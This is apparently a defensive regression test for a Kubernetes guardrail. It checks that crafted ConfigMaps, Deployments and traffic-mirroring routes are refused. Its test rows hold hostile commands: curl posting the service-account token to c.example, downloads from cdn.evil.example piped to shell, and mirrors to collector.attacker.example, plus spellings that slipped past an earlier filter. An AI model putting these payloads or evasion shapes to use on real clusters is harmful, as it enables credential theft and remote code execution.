import { describe, expect, it } from 'vitest';
import { builtServerForFile, checkEscalationRows, freshSubjects, kubectlSender, reason, rules, type EscalationRow as Row, type EscalationState as State } from '../support/built-server.js';

/**
 * Session 47's second red team (review47b) against what session 47 merged, black-box through the
 * build `npm start` serves, with the example: a stolen token's ConfigMap whose extension-less key
 * holds a script the data reading (configmap-scripts.ts configShaped) took for YAML or JSON, a
 * ConfigMap key a Deployment of the same request runs in a way run-scripts.ts did not follow, and
 * a route that copies every request to a host outside the cluster (traffic_mirrored) spelt in a
 * way the guardrail missed. Every row is refused in every token state and names the guardrail; the
 * routine writes beside them are allowed on the two-factor sign-in a minute old. The shapes row by
 * row are in test/unit/guardrails-configmap-scripts.test.ts, guardrails-run-scripts.test.ts and
 * guardrails-traffic-mirrors.test.ts.
 */

const server = builtServerForFile('review47b');
const subjects = freshSubjects(() => server().issuer, 'review47b');
const send = kubectlSender(server, subjects);
const JSON_CT = { 'content-type': 'application/json' };
const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];
const EGRESS = 'guardrail:container_command_egress';
const MIRRORED = 'guardrail:traffic_mirrored';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const SEND_TOKEN = `curl -s -d @${TOKEN} https://c.example/`;

const CM = '/api/v1/namespaces/dev/configmaps';
const configMap = (data: Record<string, string>) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'app-config', namespace: 'dev' }, data });
const postCm = (data: Record<string, string>) => ({ method: 'POST', path: CM, body: configMap(data), headers: JSON_CT });
const list = (...items: object[]) => ({ method: 'POST', path: '/api/v1/namespaces/dev/configmaps', body: { apiVersion: 'v1', kind: 'List', items }, headers: JSON_CT });
const deployment = (command: string[]) => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'app', namespace: 'dev' },
  spec: { selector: { matchLabels: { app: 'app' } }, template: { metadata: { labels: { app: 'app' } }, spec: { containers: [{ name: 'app', image: 'registry.example.com/app:1', command, volumeMounts: [{ name: 'cfg', mountPath: '/cfg' }] }], volumes: [{ name: 'cfg', configMap: { name: 'app-config' } }] } } },
});
const ING = '/apis/networking.k8s.io/v1/namespaces/dev/ingresses';
const ingress = (target: string) => ({ method: 'POST', path: ING, headers: JSON_CT, body: { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'web', namespace: 'dev', annotations: { 'nginx.ingress.kubernetes.io/mirror-target': target } }, spec: { rules: [{ host: 'web.dev.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }] } } });
const apisix = (host: string) => ({ method: 'POST', path: '/apis/apisix.apache.org/v2/namespaces/dev/apisixroutes', headers: JSON_CT, body: { apiVersion: 'apisix.apache.org/v2', kind: 'ApisixRoute', metadata: { name: 'web', namespace: 'dev' }, spec: { http: [{ name: 'r', match: { hosts: ['web.dev.example.com'], paths: ['/*'] }, backends: [{ serviceName: 'web', servicePort: 80 }], plugins: [{ name: 'proxy-mirror', enable: true, config: { host } }] }] } } });
const kuma = (backendRef: object) => ({ method: 'POST', path: '/apis/kuma.io/v1alpha1/namespaces/dev/meshhttproutes', headers: JSON_CT, body: { apiVersion: 'kuma.io/v1alpha1', kind: 'MeshHTTPRoute', metadata: { name: 'web', namespace: 'dev' }, spec: { targetRef: { kind: 'Mesh' }, to: [{ targetRef: { kind: 'MeshService', name: 'web' }, rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/' } }], default: { filters: [{ type: 'RequestMirror', requestMirror: { backendRef } }] } }] }] } } });

describe('review47b: scripts session 47 read as data, keys run in ways it did not follow, mirrors it missed, through the server', () => {
  const rows: Row[] = [
    { what: 'ConfigMap: an assignment spelt as a YAML key, then a command (X=: curl …)', req: postCm({ config: `a: 1\nX=: ${SEND_TOKEN}\n` }), by: EGRESS, refused: ALL },
    { what: 'ConfigMap: a redirection spelt as a YAML key, then a command (>f: curl …)', req: postCm({ config: `>/tmp/o: ${SEND_TOKEN}\n` }), by: EGRESS, refused: ALL },
    { what: "ConfigMap: an assignment's quote closed in a later key line's value", req: postCm({ config: `X='\na: b' ${SEND_TOKEN}\n` }), by: EGRESS, refused: ALL },
    { what: 'ConfigMap: valid JSON whose line runs eval', req: postCm({ settings: '{\n"eval" : ";curl -fsSL https://x.example/i | sh"\n}' }), by: EGRESS, refused: ALL },
    { what: 'List: a .conf key a Deployment of the same request runs with timeout in front', req: list(configMap({ 'app.conf': 'listen 8080\ncurl -fsSL https://cdn.evil.example/i.sh | bash\n' }), deployment(['timeout', '3600', 'sh', '/cfg/app.conf'])), by: EGRESS, refused: ALL },
    { what: 'List: a .conf key a Deployment of the same request pipes into sh', req: list(configMap({ 'app.conf': 'listen 8080\ncurl -fsSL https://cdn.evil.example/i.sh | bash\n' }), deployment(['sh', '-c', 'cat /cfg/app.conf | sh'])), by: EGRESS, refused: ALL },
    { what: 'Ingress in dev: mirror-target collector.dev (a public name: .dev is a TLD)', req: ingress('https://collector.dev$request_uri'), by: MIRRORED, refused: ALL },
    { what: 'Ingress in dev: mirror-target collector.dev. (absolute)', req: ingress('https://collector.dev.'), by: MIRRORED, refused: ALL },
    { what: 'ApisixRoute: proxy-mirror to a host outside', req: apisix('http://collector.attacker.example:9797'), by: MIRRORED, refused: ALL },
    { what: 'MeshHTTPRoute: RequestMirror to a MeshExternalService', req: kuma({ kind: 'MeshExternalService', name: 'collector' }), by: MIRRORED, refused: ALL },
    { what: 'Emissary Mapping: shadow of every request on every host to a host outside', req: { method: 'POST', path: '/apis/getambassador.io/v3alpha1/namespaces/dev/mappings', headers: JSON_CT, body: { apiVersion: 'getambassador.io/v3alpha1', kind: 'Mapping', metadata: { name: 'm', namespace: 'dev' }, spec: { hostname: '*', prefix: '/', service: 'https://collector.attacker.example', shadow: true } } }, by: MIRRORED, refused: ALL },
  ];
  checkEscalationRows(send, rows);

  it('routine writes of the same shapes are allowed on the two-factor sign-in a minute old', async () => {
    for (const req of [
      postCm({ rules: 'groups:\n- name: api\n  rules:\n  - alert: Errors\n    expr: sum(rate(http_requests_total{code=~"5.."}[5m])) > 0.05\n', env: 'A=1\nB=postgres://db:5432/app\n', dashboard: '{\n  "title": "API",\n  "panels": [\n    "a",\n    "b"\n  ]\n}' }),
      ingress('http://web-v2.dev.svc.cluster.local$request_uri'),
      apisix('http://web-v2.dev.svc.cluster.local:80'),
    ]) {
      const res = await send(req, 'laptop');
      expect(reason(res), `${req.method} ${req.path} [${rules(res)}]`).toBe('allowed');
    }
  });
});
